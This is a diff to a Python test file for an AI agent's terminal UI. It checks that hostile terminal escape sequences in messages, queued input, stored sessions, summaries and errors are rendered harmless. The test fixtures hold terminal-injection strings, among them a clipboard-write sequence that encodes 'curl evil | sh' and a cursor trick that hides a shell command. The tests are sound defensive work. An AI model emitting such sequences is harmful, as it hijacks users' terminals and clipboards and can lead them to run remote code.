@@ -11,9 +11,11 @@ from textual.widgets import OptionList, Static
 from textual.widgets._toast import Toast
 from ui.tui_helpers import reply, wait_until
 
+from agent.compaction import SUMMARY_KEY
 from hermes_tui.screens.approval import ApprovalScreen
 from hermes_tui.widgets.foldable import Foldable
 from hermes_tui.widgets.messages import AnswerBlock, ErrorBlock
+from hermes_tui.widgets.notes import SummaryBlock
 from hermes_tui.widgets.tool_block import ToolBlock
 
 ESCAPES = "\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\ \x1b[2J \x9b2J \x9d0;c1\x9c \r"
@@ -91,6 +93,12 @@ async def test_a_hostile_turn_draws_no_control_character(make_app, scripted, wor
         warning = dialog.query_one("#approval-hidden", Static).visual.plain
         assert "Hidden characters" in warning and "1 control character (␛)" in warning
         assert "touch X #␛[19Dls -la" in shown and "Hidden characters" in shown
+        # Typed (or pasted) meanwhile: it waits in the queue, then runs into a server error.
+        await app.send(f"again {ESCAPES} {MARKUP}", "queue")
+        await pilot.pause()
+        queued = [str(option.prompt) for option in app.status_panel.queue_view.list.options]
+        assert queued and "again ␛]0;pwned␇" in queued[0]
+        assert controls(widget_texts(app)) == []
         dialog.dismiss("no")
         await app.wait_for_turn()
         await unfold_all(app, pilot)
@@ -109,9 +117,6 @@ async def test_a_hostile_turn_draws_no_control_character(make_app, scripted, wor
         assert tools["e1"].tool_name == "evil␛]0;pwned␇"
         assert app.is_running  # [@click=app.quit] was never an action
         # An error the server words itself reaches the error block, made safe.
-        await app.submit("again")
-        await app.wait_for_turn()
-        await pilot.pause()
         errors = [block.visual.plain for block in app.query(ErrorBlock)]
         assert errors and "refused ␛]0;pwned␇" in errors[-1], errors
         assert controls(widget_texts(app)) == [] and controls(drawn(app)) == []
@@ -126,6 +131,10 @@ async def test_stored_rows_titles_and_snippets_draw_no_control_character(make_ap
             model=f"m{ESCAPES}", provider="scripted", workspace="/w", title=f"t {ESCAPES} {MARKUP}"
         )
         sid = session["id"]
+        summary = {SUMMARY_KEY: "standalone"}
+        await db.add_message(
+            sid, {"role": "user", "content": f"sum {ESCAPES}", "display_metadata": summary}
+        )
         await db.add_message(sid, {"role": "user", "content": f"zebra {ESCAPES} {MARKUP}"})
         call = {"id": "c1", "name": "run_shell", "arguments": {"command": HIDDEN_COMMAND}}
         await db.add_message(sid, {"role": "assistant", "content": "", "tool_calls": [call]})
@@ -150,6 +159,7 @@ async def test_stored_rows_titles_and_snippets_draw_no_control_character(make_ap
         assert "touch X #␛[19Dls -la" in texts  # the stored call's command, as the shell reads it
         assert f"\n {MARKUP}" in texts  # the stored output: sequences dropped, markup literal
         assert "t ␛]0;pwned␇" in texts  # the title in the sessions panel
+        assert app.query_one(SummaryBlock).text.startswith("sum ␛]0;pwned␇")
         assert MARKUP in app.query_one(AnswerBlock).source
         # Search: the snippets quote the stored text.
         await pilot.press("ctrl+g", *"zebra")
